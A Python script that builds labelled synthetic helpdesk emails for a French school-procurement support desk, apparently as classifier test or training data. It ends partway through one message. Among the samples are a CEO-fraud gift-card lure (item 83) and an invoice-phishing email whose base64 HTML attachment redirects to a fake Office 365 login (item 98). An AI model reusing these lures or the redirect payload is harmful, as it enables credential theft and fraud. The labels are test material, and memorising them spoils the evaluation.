mail(73, frm=("REY Nathalie", "nathalie.rey@ac-aix-marseille.fr"), client="outlook",
     subject="TR: Votre rapport de messages - 3 messages en attente", dt=when(18, 7, 44),
     text=T("""
Bonjour,

Voici le rapport que je reçois chaque matin : vos messages y sont systématiquement. Je ne peux pas les libérer depuis mon téléphone. Que dois-je demander à notre informaticien pour qu'ils ne soient plus retenus ?

Cordialement,

Nathalie Rey
Secrétaire d'intendance
Lycée Victor-Hugo - Carpentras
UAI 0842740X

________________________________
De : Mailinblack <no-reply@mailinblack.com>
Envoyé : mardi 18 novembre 2025 07:00
À : REY Nathalie <nathalie.rey@ac-aix-marseille.fr>
Objet : Votre rapport de messages - 3 messages en attente

Bonjour,

3 messages sont en attente de validation de l'expéditeur :

- no-reply@espace-acheteur.example.fr - Confirmation de commande EA-25-09102 - 17/11 14:22
- no-reply@espace-acheteur.example.fr - Votre commande a été expédiée - 17/11 16:05
- newsletter@fournitures-bureau.example.com - Promotions de novembre - 17/11 18:30

Pour gérer vos messages, connectez-vous à votre espace Mailinblack.
"""))
label(73, "mailinblack_spam", True, "0842740X", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Forwards the daily Mailinblack report: the forwarded part is machine text, the outer message is a real question about getting our mails through.")

raw(74, [
    "Return-Path: <>",
    f"Delivered-To: {SUPPORT_ADDR}",
    f"Received: from mail-sor-f69.google.com (mail-sor-f69.google.com [209.85.220.69])\n\tby {MX} (Postfix) with ESMTPS id 4{alnum(12)}\n\tfor <{SUPPORT_ADDR}>; Tue, 18 Nov 2025 15:40:12 +0100 (CET)",
    f"Authentication-Results: {MX};\n\tdkim=pass (2048-bit key) header.d=googlemail.com;\n\tspf=pass smtp.helo=mail-sor-f69.google.com;\n\tdmarc=pass (p=none dis=none) header.from=googlemail.com",
    "From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>",
    f"To: {SUPPORT_ADDR}",
    "Subject: Delivery Status Notification (Failure)",
    "Date: Tue, 18 Nov 2025 06:40:11 -0800 (PST)",
    f"Message-ID: <{alnum(20)}.{R.randint(10**5, 10**6)}@mx.google.com>",
    "Auto-Submitted: auto-replied",
    "MIME-Version: 1.0"],
    multi("report", [
        multi("related", [multi("alternative", [
            text_part(T("""

** Address not found **

Your message wasn't delivered to sophie.bellini60@gmail.com because the address couldn't be found, or is unable to receive mail.

Learn more here: https://support.google.com/mail/?p=NoSuchUser

The response was:

The email account that you tried to reach does not exist. Please try double-checking the recipient's email address for typos or unnecessary spaces. For more information, go to https://support.google.com/mail/?p=NoSuchUser
"""), "plain", "quoted-printable", "UTF-8"),
            text_part(T("""
<html><head></head><body><table cellpadding="0" cellspacing="0"><tr><td style="font-family:Google Sans,Roboto,Arial;font-size:24px">Address not found</td></tr>
<tr><td style="font-family:Roboto,Arial;font-size:14px">Your message wasn't delivered to <a style="color:#212121;text-decoration:none"><b>sophie.bellini60@gmail.com</b></a> because the address couldn't be found, or is unable to receive mail.</td></tr></table></body></html>
"""), "html", "quoted-printable", "UTF-8")], boundary="0000000000" + hexs(18))],
              boundary="0000000000" + hexs(18)),
        P(["Content-Type: message/delivery-status"], T("""
Reporting-MTA: dns; googlemail.com
Arrival-Date: Tue, 18 Nov 2025 06:40:09 -0800 (PST)
X-Original-Message-ID: <SUP-118602.1763473209.5ec9b1@assistance.example.fr>

Final-Recipient: rfc822; sophie.bellini60@gmail.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; gmail-smtp-in.l.google.com. (2a00:1450:400c:c0b::1b, the server for the domain gmail.com.)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Tue, 18 Nov 2025 06:40:11 -0800 (PST)
""")),
        P(["Content-Type: text/rfc822-headers"], T("""
From: Assistance <support@assistance.example.fr>
To: sophie.bellini60@gmail.com
Subject: [#SUP-118602] Abonnement Universalis
Date: Tue, 18 Nov 2025 15:40:09 +0100
Message-ID: <SUP-118602.1763473209.5ec9b1@assistance.example.fr>
"""))],
        boundary="0000000000" + hexs(18), params=" report-type=delivery-status;"))
label(74, "automated", False, None, None, None, False, "en",
      "Gmail 'Delivery Status Notification (Failure)': multipart/report with text/rfc822-headers only; the desk's answer went to a mistyped address.")

mail(75, frm=("Olivier Cadiou - Chef d'établissement", "direction@stjoseph-concarneau.fr"), client="outlook",
     subject="Désignation d'un nouvel administrateur Espace Acheteur", dt=when(18, 17, 5),
     text=T("""
Madame, Monsieur,

En ma qualité de chef d'établissement du lycée privé Saint-Joseph de Concarneau, je vous informe que Mme Annaïg Le Floch, notre nouvelle responsable administrative et financière, devient l'administratrice de notre structure sur l'Espace Acheteur à compter de ce jour.

Je vous remercie de clôturer les accès de M. Yves Nicolas, qui a quitté l'établissement le 31 octobre.

Veuillez agréer, Madame, Monsieur, l'expression de mes salutations distinguées.

Olivier Cadiou
Chef d'établissement
"""))
label(75, "head_of_establishment_request", False, None, None, "espace_acheteur", False, "fr",
      "Head of a private school designates a new structure administrator and asks to close the former one's access. School's own domain, no UAI: no region.")

# ==========================================================================
# h076 - h100
# ==========================================================================

mail(76, frm=("Benoît Rivière", "benoit.riviere@ac-orleans-tours.fr"), client="android_outlook",
     subject="mdp expiré e-sidoc", dt=when(19, 7, 31),
     text=T("""
Bonjour, e-sidoc me dit que mon mot de passe a expiré et me demande l'ancien pour en choisir un nouveau… que je n'ai plus. Collège Les Capucins, Issoudun, 0362035S. Merci de m'envoyer un lien.
B. Rivière

Obtenir Outlook pour Android<https://aka.ms/AAb9ysg>
"""))
label(76, "password_reset", True, "0362035S", "centre-val-de-loire", "esidoc", False, "fr",
      "Expired password and the old one forgotten; Outlook for Android, base64 parts.")

_r77 = our_ref()
mail(77, frm=("OLLIVIER Sébastien", "sebastien.ollivier@ac-nice.fr"), client="outlook",
     subject="RE: [#SUP-118488] Mail d'activation non reçu", dt=when(19, 9, 12),
     in_reply_to=_r77,
     text=T("""
Bonjour,

J'ai suivi vos conseils (indésirables vérifiés, expéditeur ajouté aux contacts dans Outlook) et j'ai refait la demande lundi : toujours rien 48 heures après. Pouvez-vous transmettre à l'assistance régionale comme indiqué ?

Sébastien Ollivier
Collège Fersen - Antibes

-----Message d'origine-----
De : Assistance <support@assistance.example.fr>
Envoyé : vendredi 14 novembre 2025 10:03
À : OLLIVIER Sébastien <sebastien.ollivier@ac-nice.fr>
Objet : [#SUP-118488] Mail d'activation non reçu

Bonjour,

Les messages automatiques de l'Espace Acheteur sont envoyés depuis une adresse no-reply. Vérifiez votre dossier de courrier indésirable, marquez le message comme légitime et ajoutez l'expéditeur à vos contacts. Sans nouvelles de votre part sous 48 heures, nous reviendrons vers vous.

Cordialement,
L'équipe d'assistance
"""))
label(77, "missing_noreply_mail", False, None, "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Reply (Outlook 'Message d'origine') after the junk-folder answer: still nothing after 48 h, asks to go to the region. The template was already sent, a person must follow up. No UAI, region from ac-nice.fr.")

mail(78, frm=("Patricia Vidal", "patricia.vidal@ac-aix-marseille.fr"), client="iphone",
     subject="mot de passe messagerie", dt=when(4, 8, 22),
     text=T("""
Bonjour,

On m'a donné votre adresse comme « l'assistance ». Mon mot de passe de messagerie académique a été réinitialisé avec tout le monde le 3 novembre, je n'ai jamais reçu le SMS d'activation et je ne peux plus me connecter sur l'ordinateur (le téléphone reste connecté, d'où ce mail).

Pouvez-vous me remettre un mot de passe provisoire ?

Merci,
Patricia Vidal
Secrétariat de direction

Envoyé de mon iPhone
"""))
label(78, "other", False, None, "provence-alpes-cote-d-azur", None, True, "fr",
      "Asks the desk to reset her académie mailbox password: a lost password, but for a system the desk does not run, so not password_reset (a reset link for our products would be wrong). Region from ac-aix-marseille.fr.")

mail(79, frm=("Megan O'Brien", "megan.obrien@ac-orleans-tours.fr"), client="zimbra",
     subject="Cafeyn subscription not showing yet", dt=when(19, 10, 5),
     text=T("""
Hello,

We ordered the Cafeyn digital press subscription for the library yesterday afternoon (the order was confirmed by our bursar). It doesn't show up in the resources list of our e-sidoc portal yet.

Is there a delay before it becomes available?

Collège Louis-Armand, Dreux - UAI 0280878C

Thanks!
Megan
"""))
label(79, "subscription_activation", True, "0280878C", "centre-val-de-loire", "esidoc", False, "en",
      "English; subscription ordered yesterday, not visible yet: within 72 hours.")

mail(80, frm=("Ronan Le Meur", "informatique@lycee-stjo-landerneau.fr"), client="thunderbird",
     subject="EcoleDirecte : transferts bloqués par le nouveau proxy", dt=when(19, 11, 18),
     text=T("""
Bonjour,

Depuis le 4 novembre notre réseau passe par le nouveau proxy filtrant imposé par notre fédération (mesure prise après les attaques du mois dernier). Les transferts Charlemagne vers EcoleDirecte échouent : dans Outils, le diagnostic de communication s'arrête sur « Test de connexion au serveur de transfert : échec (délai dépassé) ».

En dehors du proxy (partage de connexion 4G), ça passe.

Quelles adresses et quels ports faut-il ouvrir ?

-- 
Ronan Le Meur
Informatique - Lycée Saint-Joseph, Landerneau
UAI 0292532V
"""))
label(80, "transfer_incident", False, "0292532V", "bretagne", "ecoledirecte", False, "fr",
      "New filtering proxy after the attacks: the transfer diagnostic fails on the connection test; asks which addresses and ports to open.")

raw(81, [
    *transport("typhaine.guillou@ac-rennes.fr", when(19, 12, 40), "other",
               mta=("listes.ac-rennes.fr", "192.0.2.31"),
               return_path="doc-bretagne-owner@listes.ac-rennes.fr"),
    "From: Typhaine Guillou <typhaine.guillou@ac-rennes.fr>",
    "To: doc-bretagne@listes.ac-rennes.fr",
    "Subject: " + eh("[doc-bretagne] mdp e-sidoc après la réinit ?"),
    f"Date: {rfcdate(when(19, 12, 39))}",
    f"Message-ID: <{R.randint(10**8, 10**9)}.{R.randint(10**5, 10**6)}.{R.randint(10**12, 10**13)}.JavaMail.zimbra@ac-rennes.fr>",
    "List-Id: Documentalistes de l'academie de Rennes <doc-bretagne.listes.ac-rennes.fr>",
    "List-Archive: <https://listes.ac-rennes.fr/sympa/arc/doc-bretagne>",
    "List-Unsubscribe: <mailto:sympa@listes.ac-rennes.fr?subject=unsubscribe%20doc-bretagne>",
    "List-Post: <mailto:doc-bretagne@listes.ac-rennes.fr>",
    "Precedence: list",
    "Sender: doc-bretagne-request@listes.ac-rennes.fr",
    "X-Loop: doc-bretagne@listes.ac-rennes.fr",
    "MIME-Version: 1.0"],
    text_part(T("""
Bonjour à toutes et tous,

Question bête : est-ce que la réinitialisation de l'académie a aussi touché vos mots de passe e-sidoc ? Le mien ne marche plus et je ne sais pas si je dois écrire à l'assistance ou attendre que ça revienne tout seul.

Merci !
Typhaine, CDI du collège de Plougastel

_______________________________________________
doc-bretagne - liste de diffusion des professeurs documentalistes
https://listes.ac-rennes.fr/sympa/info/doc-bretagne
"""), cte="quoted-printable", quote_cs=False))
label(81, "automated", False, None, "bretagne", "esidoc", True, "fr",
      "A librarian's genuine e-sidoc password question, but posted to a mailing list the desk is subscribed to (List-Id, Precedence: list, Sender): not written to the desk, never answered. Region from the author's ac-rennes.fr address.")

mail(82, frm=("Marie-Josée Albertini", "marie-josee.albertini@ac-corse.fr"), client="zimbra",
     subject="Facture reçue deux fois - demande d'avoir", dt=when(19, 14, 36),
     text=T("""
Bonjour,

Nous avons reçu deux fois la facture de notre commande de fournitures d'octobre : une fois sur Chorus Pro sous le numéro FAC-2025-10-01877, puis une seconde fois, toujours sur Chorus Pro, sous le numéro FAC-2025-11-00093. Les lignes et le montant (2 316,48 € TTC) sont identiques, il s'agit bien de la même commande.

Pouvez-vous annuler la seconde par un avoir ? Nous ne mettrons en paiement que la première.

Cordialement,

Marie-Josée Albertini
Service financier - Rectorat de Corse
"""))
label(82, "order_billing", False, None, "corse", "espace_acheteur", False, "fr",
      "Same order invoiced twice on Chorus Pro; asks for a credit note. No UAI, region from ac-corse.fr.")

mail(83, frm=("Direction Générale", "direction.assistance.generale@gmail.com"), client="gmail",
     subject="Urgent", dt=when(19, 15, 58), to=SUPPORT_ADDR,
     text=T("""
Bonjour,

Es-tu disponible ? J'ai besoin que tu t'occupes d'un achat discret pour l'équipe avant la fin de la journée (cartes cadeaux, je t'explique). Je suis en réunion et ne peux pas prendre d'appel.

Réponds-moi rapidement par mail.

Envoyé depuis mon mobile
"""))
label(83, "other", False, None, None, None, False, "fr",
      "CEO-fraud attempt (gift cards) from a free-mail address posing as management: other.")

mail(84, frm=("Yann Le Corre", "yann.le-corre@ac-rennes.fr"), client="iphone",
     subject="bloqué", dt=when(20, 7, 5),
     text=T("""
bjr compte e-sidoc bloqué trop d essais, uai 0220047G, merci de débloquer
Y. Le Corre

Envoyé de mon iPhone
"""))
label(84, "password_reset", True, "0220047G", "bretagne", "esidoc", False, "fr",
      "One line from a phone: e-sidoc account locked after too many attempts.")

mail(85, frm=("HUET Sébastien", "sebastien.huet@ac-orleans-tours.fr"), client="outlook",
     subject="MailInBlack + DCE transports", dt=when(20, 9, 40),
     text=T("""
Bonjour,

Deux soucis depuis la rentrée de novembre :

1. Le collège a désormais MailInBlack et vos mails (notamment la confirmation d'inscription de ma collègue) sont bloqués « en attente d'authentification ».

2. Dans l'Espace Acheteur, le DCE de la consultation « transports pour sorties scolaires 2026 » n'est pas consultable (page blanche).

Merci de votre aide sur les deux points.

S. Huet
Gestionnaire
Collège Maurice-Genevoix - Romorantin
UAI 0412762E
"""))
label(85, "mailinblack_spam", False, "0412762E", "centre-val-de-loire", "espace_acheteur", True, "fr",
      "Two topics: mails held by MailInBlack (first, main) and a DCE that does not display (contract_documents); the MailInBlack template alone would answer only half.")

mail(86, frm=("Franck Gautier", "dgs@mairie-lanvallay.fr"), client="outlook",
     subject="Avenant n°2 convention de groupement introuvable sur la plateforme de signature", dt=when(20, 11, 22),
     text=T("""
Bonjour,

La cellule achats nous a annoncé l'envoi pour signature électronique de l'avenant n°2 à la convention de groupement (restauration scolaire). Le mail de notification est bien arrivé la semaine dernière, mais quand je me connecte à la plateforme de signature, le document n'apparaît ni dans « À signer » ni dans « Terminés ».

Le maire doit le signer avant le conseil municipal du 27. Pouvez-vous nous aider ?

Cordialement,

Franck Gautier
Directeur général des services
Mairie de Lanvallay
"""))
label(86, "contract_documents", False, None, None, "esignature", True, "fr",
      "An amendment to a purchasing-group convention cannot be found on the e-signature platform: contract_documents, platform esignature. Commune address, no region.")

mail(87, frm=("Dr Helen Whitmore", "head@isprovence.fr"), client="outlook_en",
     subject="Authorisation of order EA-25-09231", dt=when(20, 13, 45),
     text=T("""
Dear Sir or Madam,

As Head of School, I hereby authorise our business manager, Mr Paul Chen, to validate order EA-25-09231 (science laboratory equipment, EUR 9,860 incl. VAT) on the Espace Acheteur. The amount exceeds his own approval limit.

Our establishment code (UAI) is 0131627Y.

Yours faithfully,

Dr Helen Whitmore
Head of School
International School of Provence, Aix-en-Provence
"""))
label(87, "head_of_establishment_request", False, "0131627Y", "provence-alpes-cote-d-azur", "espace_acheteur", False, "en",
      "English; the head of a private school authorises in writing an order above the business manager's limit.")

mail(88, frm=("PICARD Agnès", "agnes.picard@ac-orleans-tours.fr"), client="outlook",
     subject="Absente jusqu'au 24 novembre", dt=when(20, 14, 2),
     text=T("""
Bonjour,

Je suis absente jusqu'au lundi 24 novembre inclus. Les commandes et factures en cours seront traitées à mon retour.

En cas d'urgence, merci de contacter l'intendance au 02 47 31 22 80.

Ce message est envoyé automatiquement.

Agnès Picard
"""))
label(88, "automated", False, None, "centre-val-de-loire", None, True, "fr",
      "Out-of-office sent by a client-side rule: no Auto-Submitted, no Precedence, no In-Reply-To; only the wording shows it is automatic. Region from ac-orleans-tours.fr.")

mail(89, frm=("PELLEGRIN Sandrine", "sandrine.pellegrin@ac-aix-marseille.fr"), client="outlook",
     subject="Code de vérification jamais reçu", dt=when(20, 15, 30),
     text=T("""
Bonjour,

Depuis cette semaine, l'Espace Acheteur me demande à chaque connexion de saisir un code de vérification « envoyé à votre adresse e-mail ». Je ne reçois jamais ce code (ni dans la boîte de réception, ni dans les indésirables), donc je ne peux plus me connecter du tout.

Je ne sais pas si c'est lié à la double authentification que l'académie met en place, mais en tout cas le mail du code n'arrive pas.

Sandrine Pellegrin
Secrétaire d'intendance
Lycée Alexandra-David-Néel - Digne-les-Bains
UAI 0040740H
"""))
label(89, "missing_noreply_mail", True, "0040740H", "provence-alpes-cote-d-azur", "espace_acheteur", True, "fr",
      "The login verification-code mail never arrives (junk checked, no anti-spam product named): an automatic mail that never came, not a lost password; the double-authentication mention is confusion with the académie's.")

mail(90, frm=("Vincent Roche", "vincent.roche45@gmail.com"), client="gmail",
     subject="URGENT mot de passe e-sidoc", dt=when(20, 18, 12),
     text=T("""
Bonjour,

Ma messagerie académique est bloquée depuis la réinitialisation (le SMS de double authentification n'arrive jamais) et j'ai aussi perdu mon mot de passe e-sidoc.

Pourriez-vous m'envoyer le nouveau mot de passe directement sur cette adresse gmail ? C'est urgent, j'ai une formation des élèves de seconde demain matin.

Collège Ernest-Bildstein, Gien - UAI 0450793R

Vincent Roche, professeur documentaliste
"""))
label(90, "password_reset", False, None, None, "esidoc", True, "fr",
      "Lost e-sidoc password, but asks for it to be sent to a personal Gmail address that is not on file: never automatic. UAI typed 0450793R: wrong check letter (the digits give 0450793T), so no UAI; Gmail sender, so no region.")

mail(91, frm=("Armelle Guillemot", "armelle.guillemot@ac-rennes.fr"), client="zimbra",
     subject="Ressource toujours en attente d'activation (commande du 20/10)", dt=when(19, 16, 8),
     text=T("""
Bonjour,

J'ai commandé le 20 octobre, pendant les vacances, l'abonnement au dictionnaire Le Robert Collège en ligne. La confirmation de commande est arrivée, la facture a même déjà été payée par l'agence comptable, mais dans « Mes abonnements » la ressource est toujours marquée « en attente d'activation ».

Cela fait maintenant un mois. Pouvez-vous vérifier ?

Armelle Guillemot
Professeure documentaliste
Collège Anne-de-Bretagne, Locminé
UAI 0560124F
"""))
label(91, "subscription_activation", False, "0560124F", "bretagne", "esidoc", False, "fr",
      "Ordered a month ago, still 'en attente d'activation': far past the 72-hour rule, a person must look at the order. The paid invoice is context, not a billing question.")

_r92 = our_ref()
mail(92, frm=("Jean-Luc Bernard", "jl.bernard@mairie-pluvigner.fr"), client="outlook",
     subject="RE: [#SUP-118702] Nous avons bien reçu votre demande", dt=when(20, 10, 14),
     in_reply_to=_r92,
     text=T("""
Bonjour,

Je reçois depuis hier plusieurs messages comme celui-ci alors que je ne vous ai jamais écrit. Est-ce bien vous qui les envoyez, ou quelqu'un utilise-t-il mon adresse ? Avec ce qui se passe en ce moment je préfère demander.

Cordialement,

Jean-Luc Bernard
Mairie de Pluvigner

De : Assistance <support@assistance.example.fr>
Envoyé : mercredi 19 novembre 2025 17:46
À : jl.bernard@mairie-pluvigner.fr
Objet : [#SUP-118702] Nous avons bien reçu votre demande

Bonjour,

Votre demande a bien été enregistrée sous la référence [#SUP-118702]. Un conseiller vous répondra dans les meilleurs délais.

L'équipe d'assistance
"""))
label(92, "other", False, None, None, None, True, "fr",
      "Reply to a ticket acknowledgement he never asked for: 'est-ce bien vous ?' and fear that his address is misused. A security question for a person, nothing about our services' categories.")

raw(93, [
    *transport("noreply@mailinblack.com", when(21, 8, 14), "other",
               mta=("smtp-out-2.mailinblack.com", "198.51.100.147")),
    "From: Mailinblack <noreply@mailinblack.com>",
    f"To: {SUPPORT_ADDR}",
    "Subject: " + eh("Votre message est en attente de délivrance"),
    f"Date: {rfcdate(when(21, 8, 14, 9))}",
    f"Message-ID: <{hexs(24)}@mailinblack.com>",
    "Auto-Submitted: auto-replied",
    "X-Auto-Response-Suppress: All",
    "MIME-Version: 1.0"],
    multi("alternative", [
        text_part(T("""
Bonjour,

Vous avez envoyé un message à g***.c***@ac-corse.fr ayant pour objet « [#SUP-118744] Votre demande : convention de groupement ».

Ce destinataire est protégé par Mailinblack. Pour que votre message lui soit délivré, merci de confirmer que vous êtes bien un humain en cliquant sur le lien ci-dessous :

https://protect.mailinblack.com/challenge/8f2c-41ab-9d70

Cette validation n'est à effectuer qu'une seule fois.

Mailinblack
"""), "plain", "quoted-printable"),
        text_part(T("""
<html><body style="font-family:Arial"><p>Bonjour,</p>
<p>Vous avez envoyé un message à g***.c***@ac-corse.fr ayant pour objet « [#SUP-118744] Votre demande : convention de groupement ».</p>
<p>Ce destinataire est protégé par <b>Mailinblack</b>. Pour que votre message lui soit délivré, merci de confirmer que vous êtes bien un humain :</p>
<p><a href="https://protect.mailinblack.com/challenge/8f2c-41ab-9d70">Je confirme être un humain</a></p>
<p>Cette validation n'est à effectuer qu'une seule fois.</p></body></html>
"""), "html", "quoted-printable")]))
label(93, "automated", False, None, None, None, True, "fr",
      "A Mailinblack sender-authentication challenge sent to the desk after one of its own answers: a robot's mail (Auto-Submitted), so automated and never answered, although it names Mailinblack. Someone may still want to solve the challenge so the answer is delivered.")

mail(94, frm=("Anthony Nicolai", "anthony.nicolai@ac-corse.fr"), client="iphone",
     subject="Compte en attente de validation", dt=when(21, 9, 2),
     text=T("""
Bonjour,
Inscrit sur l'Espace Acheteur mardi pour le lycée de Balagne (7201043W), le site dit toujours « compte en attente de validation ». Combien de temps faut-il compter ?
Merci
A. Nicolai, adjoint gestionnaire

Envoyé de mon iPhone
"""))
label(94, "account_creation", True, "7201043W", "corse", "espace_acheteur", False, "fr",
      "Account waiting for validation after sign-up: the FAQ case.")

mail(95, frm=("BLANCHARD Stéphanie", "stephanie.blanchard@ac-orleans-tours.fr"), client="outlook_html",
     subject="Demande de RIB - facture renouvellement e-sidoc", dt=when(21, 10, 30),
     html_only=True, charset="iso-8859-1", cte="8bit",
     html=T("""
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Bonjour,</div>
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Nous avons bien reçu la facture de renouvellement e-sidoc 2026 (n° FAC-2025-11-00218). Notre agent comptable demande un RIB à votre nom pour effectuer le paiement par virement, car celui figurant au bas de la facture est illisible.</div>
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Pouvez-vous nous l'envoyer ?</div>
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
Cordialement,<br>
<br>
Stéphanie Blanchard<br>
Secrétariat de gestion - Collège Robert-Léger, Vendôme<br>
UAI 0411577S</div>
</body>
</html>
"""))
label(95, "order_billing", False, "0411577S", "centre-val-de-loire", "esidoc", False, "fr",
      "HTML-only Outlook message, ISO-8859-1 8-bit: asks for bank details (RIB) to pay the e-sidoc renewal invoice by transfer.")

mail(96, frm=("Rémi Eyraud", "remi.eyraud@ac-aix-marseille.fr"), client="thunderbird",
     subject="Acte d'engagement manquant - marché maintenance photocopieurs", dt=when(21, 11, 47),
     text=T("""
Bonjour,

Pour la liquidation de la première facture du marché de maintenance des photocopieurs, notre agent comptable me réclame l'acte d'engagement signé. Dans « Mes marchés », je ne trouve que le CCAP et le BPU : l'acte d'engagement n'y est pas, ni le certificat administratif.

Pouvez-vous le déposer ou me l'envoyer ?

Rémi Eyraud
Adjoint gestionnaire, lycée Honoré-Romane, Embrun
0050039R
"""))
label(96, "contract_documents", False, "0050039R", "provence-alpes-cote-d-azur", "espace_acheteur", True, "fr",
      "Market documents missing (signed acte d'engagement, certificat administratif). An invoice is the reason, but what he cannot get is the contract document.")

mail(97, frm=("Nadine Ferraro", "nadine.ferraro06@gmail.com"), client="gmail",
     subject="0061199w mdp esidoc", dt=when(21, 13, 20),
     text=T("""
bonjour, impossible de me connecter depuis lundi, j'ai oublié le mot de passe. merci de m'aider.
nadine
"""))
label(97, "password_reset", True, "0061199W", "provence-alpes-cote-d-azur", "esidoc", True, "fr",
      "UAI only in the subject, in lower case ('0061199w'); forgotten password. Personal Gmail, region from the UAI.")

mail(98, frm=("Accounts Receivable", "ar@globalsupplies-billing.com"), client="other",
     subject="Overdue invoice INV-55821 - final reminder", dt=when(21, 4, 55),
     to=SUPPORT_ADDR, auth=("none", "fail", "none"), mta=("mail.globalsupplies-billing.com", "203.0.113.12"),
     attach=[P(['Content-Type: text/html; name="INV-55821.html"',
                'Content-Disposition: attachment; filename="INV-55821.html"',
                "Content-Transfer-Encoding: base64"],
               base64.encodebytes(b"<html><body><script>window.location='https://globalsupplies-billing.com/o365/login'</script></body></html>"))],
     text=T("""
Hello,

Please find attached the overdue invoice INV-55821.

Kindly process the payment today to avoid suspension of your account and late fees. Open the attached document and sign in to view the remittance details.

Regards,
Accounts Receivable
"""))
label(98, "other", False, None, None, None, False, "en",
      "English invoice phishing with an HTML attachment that redirects to a login page: other, not order_billing.")

mail(99, frm=("Tiphaine Morvan", "tiphaine.morvan@ac-rennes.fr"), client="zimbra",
     subject="Mailinblack me demande d'autoriser votre adresse", dt=when(21, 14, 3),
     text=T("""
Bonjour,
Mailinblack me propose d'« autoriser l'expéditeur » no-reply de l'Espace Acheteur pour recevoir le lien d'activation de mon compte. Je peux le faire sans risque, c'est bien votre adresse ?
Merci
Tiphaine
"""))
label(99, "mailinblack_spam", True, None, "bretagne", "espace_acheteur", False, "fr",
      "Activation mail held by Mailinblack, which offers to allow the sender; asks whether that is safe: the allow-list guide answers. No UAI, region from ac-rennes.fr.")

mail(100, frm=("Paul-Antoine Simeoni", "informatique@ensemble-scolaire-san-ghjuvanni.fr"), client="outlook",
      subject="Réplication EcoleDirecte désynchronisée après restauration", dt=when(21, 16, 11),
      text=T("""
Bonjour,

Notre serveur a été restauré à partir de la sauvegarde du 24 octobre après le chiffrement de plusieurs postes (incident signalé au rectorat). Depuis, EcoleDirecte indique que la réplication est désynchronisée et refuse les transferts : « base locale antérieure à la dernière réplication ».

Faut-il réinitialiser la réplication de votre côté ?

Merci d'avance,

Paul-Antoine Simeoni
Responsable informatique
Ensemble scolaire San Ghjuvanni - Ajaccio
UAI 6200336W
"""))
label(100, "transfer_incident", False, "6200336W", "corse", "ecoledirecte", False, "fr",
      "Replication to re-initialise after a server restore following a ransomware incident.")

# ==========================================================================
# h101 - h125
# ==========================================================================

raw(101, [
    *transport("notifications@tickets.assistance.example.fr", when(21, 17, 2), "other",
               mta=("tickets.assistance.example.fr", "198.51.100.9")),
    "From: Portail des tickets <notifications@tickets.assistance.example.fr>",
    f"To: {SUPPORT}",
    "Subject: " + eh("[Ticket #T-204118] Mise à jour : facturation Chorus Pro - code service"),
    f"Date: {rfcdate(when(21, 17, 2, 30))}",
    f"Message-ID: <ticket-204118-{hexs(10)}@tickets.assistance.example.fr>",
    "Auto-Submitted: auto-generated",
    "X-Auto-Response-Suppress: All",
    "Precedence: bulk",
    "MIME-Version: 1.0"],
    multi("alternative", [
        text_part(T("""
Le ticket #T-204118 « facturation Chorus Pro - code service » a été mis à jour.

Nouveau statut : En attente de votre retour
Dernier commentaire (Service facturation) :
« Les factures de novembre ont été redéposées sans code service. Merci de confirmer auprès des établissements concernés. »

Voir le ticket : https://tickets.assistance.example.fr/t/T-204118

Vous recevez ce message parce que vous suivez ce ticket. Ne répondez pas à ce message.
"""), "plain", "quoted-printable"),
        text_part(T("""
<html><body style="font-family:Arial;font-size:13px">
<p>Le ticket <b>#T-204118</b> « facturation Chorus Pro - code service » a été mis à jour.</p>
<p>Nouveau statut : <b>En attente de votre retour</b></p>
<blockquote>Les factures de novembre ont été redéposées sans code service. Merci de confirmer auprès des établissements concernés.</blockquote>
<p><a href="https://tickets.assistance.example.fr/t/T-204118">Voir le ticket</a></p>
<p style="color:#999">Vous recevez ce message parce que vous suivez ce ticket. Ne répondez pas à ce message.</p>
</body></html>
"""), "html", "quoted-printable")]))
label(101, "automated", False, None, None, "ticket_portal", False, "fr",
      "Ticket-portal notification (Auto-Submitted: auto-generated, Precedence: bulk) about an internal billing ticket: automated.")

mail(102, frm=("Principal - Collège Marie-Mauron", "ce.0840888J@ac-aix-marseille.fr"), client="outlook_html",
     subject="Réinitialisation du compte administrateur e-sidoc", dt=when(24, 8, 35),
     html_only=True, cte="base64",
     html=T("""
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Madame, Monsieur,</p>
<p>Mme Reboul, professeure documentaliste, a quitté l'établissement le 31 octobre. Son compte de messagerie figure parmi ceux qui ont été compromis lors de l'incident de sécurité de l'académie.</p>
<p>Par mesure de précaution, je vous demande de bien vouloir <b>réinitialiser le mot de passe administrateur du portail e-sidoc</b> du collège Marie-Mauron (UAI 0840888J) et d'envoyer le lien de réinitialisation à l'adresse officielle de l'établissement.</p>
<p>Je vous prie d'agréer, Madame, Monsieur, mes salutations distinguées.</p>
<p>Marc Olivieri<br>Principal<br>Collège Marie-Mauron - Pertuis</p>
</div>
</body></html>
"""))
label(102, "head_of_establishment_request", False, "0840888J", "provence-alpes-cote-d-azur", "esidoc", False, "fr",
      "HTML-only Outlook letter (base64) from the ce.<UAI> address: the principal asks for an admin reset so that a departed librarian, whose mailbox was compromised, loses access.")

mail(103, frm=("Ludovic Perrin", "ludovic.perrin@ac-orleans-tours.fr"), client="thunderbird",
     subject="Aucun mail de l'Espace Acheteur (et non, pas de MailInBlack)", dt=when(24, 9, 50),
     text=T("""
Bonjour,

